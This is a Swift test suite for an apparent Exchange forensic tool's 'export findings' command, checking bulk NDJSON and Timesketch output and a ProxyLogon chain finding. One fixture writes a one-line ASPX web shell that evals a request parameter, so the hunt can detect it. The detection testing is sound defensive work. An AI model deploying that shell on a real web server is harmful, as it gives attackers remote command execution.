import ExchangeEvidence
import Foundation
@testable import InvestigationShell
import Testing

/// `export findings`: the hunt's findings as ECS alerts in a bulk body, or as Timesketch rows.
@Suite struct FindingsExportTests {
    /// `export` accepts every target's options, so one its target does not read is refused, not ignored
    /// (reviewer: `export findings … --filter '--server EX01'` wrote every server's findings).
    @Test func anOptionTheTargetDoesNotReadIsRefused() throws {
        let (t, dir) = try TimelineCommandTests.loaded()
        let f = dir.appendingPathComponent("f.ndjson").path
        #expect(t.failure("export findings \(f) --filter '--server EX01'").contains("--filter does not apply"))
        #expect(t.failure("export timeline \(dir.appendingPathComponent("t.csv").path) --index x").contains("--index does not apply"))
        #expect(t.failure("export findings \(dir.appendingPathComponent("f.csv").path) --index x").contains("written as NDJSON only (FILE.ndjson, or - with --format ndjson)"))
        let written = try FileManager.default.contentsOfDirectory(atPath: dir.path).filter { name in ["f.ndjson", "f.csv", "t.csv"].contains { name.hasPrefix($0) } }
        #expect(written.isEmpty, "\(written)")
        try t.run("export findings \(f) --index alerts --force")
    }

    /// An export with nothing in it says so (reviewer): an empty bulk body is refused by the API.
    @Test func anEmptyExportWarns() throws {
        let dir = ShellHarness.temporaryFolder()
        let set = dir.appendingPathComponent("set/EX01/W3SVC1")
        try FileManager.default.createDirectory(at: set, withIntermediateDirectories: true)
        try Data(("#Software: Microsoft Internet Information Services 10.0\n#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query "
                  + "s-port cs-username c-ip cs(User-Agent) sc-status\n2021-03-03 06:49:42 10.0.0.5 GET /owa/ - 443 - 10.0.0.9 Mozilla/5.0 200\n").utf8)
            .write(to: set.appendingPathComponent("u_ex210303.log"))
        let t = TestShell()
        try t.run("load \(dir.appendingPathComponent("set").path)")
        #expect(try t.shown("export findings \(dir.appendingPathComponent("f.ndjson").path)")
                    .contains("warning: no finding to write: the export is empty, and the bulk API refuses an empty body"))
        #expect(try t.shown("export timeline \(dir.appendingPathComponent("t.csv").path) --filter '--contains nothing-here'")
                    .contains("warning: no event to write"))
    }

    @Test func bulkAlertsOnePerFinding() throws {
        let (t, dir) = try TimelineCommandTests.loaded()
        try t.run("hunt")
        let findings = t.session.findingCitationsRunningHunt()
        let timed = findings.findingIDs.filter { findings.facts(ofFinding: $0)!.time != Timestamp.unknown }
        let file = dir.appendingPathComponent("f.ndjson")
        let result = try JSONSerialization.jsonObject(with: Data(try t.run("export findings \(file.path) --json").utf8)) as! [String: Any]
        let pairs = try EventsExportTests.bulk(try String(contentsOf: file, encoding: .utf8))
        #expect(pairs.count == findings.findingIDs.count && result["findings"] as? Int == pairs.count)
        #expect(pairs.filter { $0.1["@timestamp"] != nil }.count == timed.count)
        for (action, doc) in pairs {
            #expect((action["create"] as? [String: Any])?["_index"] as? String == "exhunt-findings")
            let flat = EventsExportTests.flatten(doc)
            for (path, value) in flat {
                if let type = EventsExportTests.ecsTypes[path] { #expect(EventsExportTests.fits(value, type), "\(path)") }
                else { #expect(path.hasPrefix("exhunt."), "unexpected field \(path)") }
            }
            #expect(flat["event.kind"] as? String == "alert")
            let id = flat["exhunt.finding.id"] as! String
            let facts = try #require(findings.facts(ofFinding: id))
            #expect(flat["rule.id"] as? String == facts.rule && flat["host.name"] as? String == facts.server)
            #expect((flat["exhunt.finding.cites"] as? [String])?.count == findings.events(ofFinding: id)?.count)
            #expect(flat["exhunt.evidence_set"] as? String == "training", "the set beside log.file.path")
        }
        let chain = try #require(pairs.map { EventsExportTests.flatten($0.1) }.first { $0["rule.id"] as? String == "chain.proxylogon" })
        #expect(chain["event.severity"] as? Int == 5 && (chain["vulnerability.id"] as? [String])?.contains("CVE-2021-26855") == true)
        // The file is the one hunt cites for the chain (its SSRF), not its undated collected shell (reviewer).
        #expect(chain["log.file.path"] as? String == "EX01/C/inetpub/logs/LogFiles/W3SVC1/u_ex210303.log")
        #expect((chain["exhunt.finding.cites"] as? [String])?.first == "EX01/C/inetpub/logs/LogFiles/W3SVC1/u_ex210303.log:59")
    }

    /// Collected web shells with no listing row and no logs have no time: the bulk NDJSON keeps them, marked
    /// `untimed`; Timesketch's JSONL and CSV leave them out, since one row without a datetime makes Timesketch
    /// refuse a whole JSONL file (reviewer). The message names them either way.
    @Test func findingsWithoutATimeGoToNDJSONOnly() throws {
        let dir = FileManager.default.temporaryDirectory.appendingPathComponent("exhunt-untimed-\(UUID().uuidString)")
        defer { try? FileManager.default.removeItem(at: dir) }
        let evidence = dir.appendingPathComponent("evidence")
        let folder = evidence.appendingPathComponent("EX05/C/inetpub/wwwroot/aspnet_client")
        try FileManager.default.createDirectory(at: folder, withIntermediateDirectories: true)
        try #"<%@ Page Language="Jscript"%><%eval(Request.Item["z"],"unsafe");%>"#
            .write(to: folder.appendingPathComponent("s.aspx"), atomically: true, encoding: .utf8)
        let t = TestShell()
        try t.run("load \(evidence.path)")
        let citations = t.session.findingCitationsRunningHunt()
        let ids = citations.findingIDs
        #expect(ids.count == 2 && ids.allSatisfy { citations.facts(ofFinding: $0)?.time == Timestamp.unknown })
        let ndjson = dir.appendingPathComponent("f.ndjson"), csv = dir.appendingPathComponent("f.csv")
        let jsonl = dir.appendingPathComponent("f.jsonl")
        let said = try t.shown("export findings \(ndjson.path)")
        #expect(said.contains("wrote 2 findings") && said.contains("; F1, F2 have no time: written without @timestamp, tagged 'untimed'"))
        let docs = try EventsExportTests.bulk(try String(contentsOf: ndjson, encoding: .utf8)).map { EventsExportTests.flatten($0.1) }
        #expect(docs.count == 2)
        #expect(docs.allSatisfy { $0["@timestamp"] == nil && ($0["tags"] as? [String])?.contains("untimed") == true })
        #expect(Set(docs.compactMap { $0["rule.id"] as? String }) == ["webshell.content", "webshell.file"])
        let json = try JSONSerialization.jsonObject(with: Data(try t.run("export findings \(csv.path) --json").utf8)) as! [String: Any]
        #expect(json["findings"] as? Int == 0 && json["untimed"] as? [String] == ["F1", "F2"] && json["untimed_skipped"] as? Int == 2)
        #expect(TimelineExportTests.parseCSV(try String(contentsOf: csv, encoding: .utf8)) == [FindingsExport.columns])
        #expect(try t.shown("export findings \(jsonl.path)").contains("F1, F2 have no time: left out (Timesketch refuses a whole JSONL file "
                                                                     + "with a row without a datetime); export findings FILE.ndjson keeps them"))
        #expect(try t.shown("export findings \(csv.path) --force").contains("left out (Timesketch drops a CSV row without a datetime)"))
        #expect(try String(contentsOf: jsonl, encoding: .utf8).isEmpty)
    }

    @Test func timesketchRowsInCSVAndJSONL() throws {
        let (t, dir) = try TimelineCommandTests.loaded()
        let jsonl = dir.appendingPathComponent("f.jsonl"), csv = dir.appendingPathComponent("f.csv")
        try t.run("export findings \(jsonl.path)")
        try t.run("export findings \(csv.path)")
        let rows = try String(contentsOf: jsonl, encoding: .utf8).split(separator: "\n")
            .map { try JSONSerialization.jsonObject(with: Data($0.utf8)) as! [String: Any] }
        #expect(!rows.isEmpty)
        for r in rows { TimelineExportTests.checkRow(r) }
        let records = TimelineExportTests.parseCSV(try String(contentsOf: csv, encoding: .utf8))
        #expect(records[0] == FindingsExport.columns && records.count == rows.count + 1)
        for r in records.dropFirst() { TimelineExportTests.checkRow(Dictionary(uniqueKeysWithValues: zip(records[0], r))) }
    }
}
